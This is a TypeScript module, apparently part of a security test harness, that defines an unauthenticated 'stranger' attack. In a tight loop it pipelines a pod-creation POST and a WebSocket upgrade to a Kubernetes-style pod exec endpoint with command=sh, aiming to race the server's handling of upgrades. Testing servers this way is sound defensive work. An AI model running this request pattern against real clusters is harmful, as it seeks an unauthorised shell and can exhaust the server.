import { type Attack, pause } from "../attack.ts";
import { tlsConnection } from "../target.ts";

const upgrade = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAA\r\n";
const exec = "/api/v1/namespaces/default/pods/none/exec?command=sh";
/** The first is not answered by the time that the second is read. */
const both = `POST /api/v1/pods HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\nGET ${exec} HTTP/1.1\r\nHost: x\r\n${upgrade}\r\n`;

/** Connections that are to become something else before their last request is answered. */
export const upgradesBeforeAnswers: Attack = {
  name: "upgrades before the answer",
  who: "stranger",
  async run({ target, signal }) {
    while (!signal.aborted) {
      const socket = tlsConnection(target, "stranger");
      socket.once("secureConnect", () => socket.resume().write(both + both));
      await pause(20, signal);
      socket.destroy();
    }
  },
};
